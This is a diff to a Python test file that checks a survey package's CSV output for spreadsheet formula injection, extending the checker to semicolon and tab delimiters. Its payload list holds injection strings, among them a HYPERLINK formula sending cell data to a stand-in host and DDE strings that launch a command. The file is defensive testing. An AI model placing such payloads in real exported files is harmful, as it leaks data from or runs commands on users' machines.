@@ -25,7 +25,8 @@ PACKAGE = Path(__file__).parents[3] / "survey"
 STARTS = tuple("=+-@|%\t\r\n\0＝＋－＠")
 PAYLOADS = [
     "=1+1", "=HYPERLINK(\"//evil.example/?\"&A1;\"b\")", "+1+1", "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0", "|calc", "%0A=1", "＝1+1", "＋1", "－1", "＠SUM(1)", "-1", "=",
+    "@SUM(1+1)*cmd|' /C calc'!A0", "|calc", "%0A=1", "＝2+2", "＋2", "－2", "＠SUM(1)", "-1", "=",
+    "a;=1+1", 'b;"=1+1";c', "d;-1;#",
 ]  # fmt: skip
 
 
@@ -38,9 +39,14 @@ def is_number(cell: str) -> bool:
 
 
 def formulas(text: str) -> list[str]:
-    """The cells that a spreadsheet might run; a number is none, however it begins."""
-    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
-    assert len(cells) > 1
+    """The cells that a spreadsheet might run, whatever it splits at; a number is none."""
+    cells = [
+        cell
+        for delimiter in ",;\t"
+        for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter)
+        for cell in row
+    ]
+    assert len(cells) > 3
     return [cell for cell in cells if cell.startswith(STARTS) and not is_number(cell)]
 
 
@@ -178,12 +184,14 @@ def test_one_module_alone_writes_csv():
         for node in ast.walk(ast.parse(path.read_text()))
         if isinstance(node, ast.Attribute) and node.attr in {"writer", "DictWriter"}
     ]
-    assert writing == ["core/tables.py"]
+    assert writing == []  # survey.core.tables puts its lines together itself
 
 
 @pytest.mark.parametrize("start", STARTS)
 def test_the_check_catches_a_careless_writer(start):
     text = io.StringIO(newline="")
-    csv.writer(text).writerows([["a", "b"], [f"{start}x", -0.25]])
-    assert formulas(text.getvalue()) == [f"{start}x"]
+    csv.writer(text).writerows([["a", "b"], ["c;=1+1", -0.25], [f"{start}x", -0.25]])
+    found = formulas(text.getvalue())
+    for formula in ("=1+1", f"{start}x"):
+        assert any(cell.startswith(formula) for cell in found)
     assert formulas(plain_csv(["a", "b"], [[f"{start}x", -0.25]])) == []
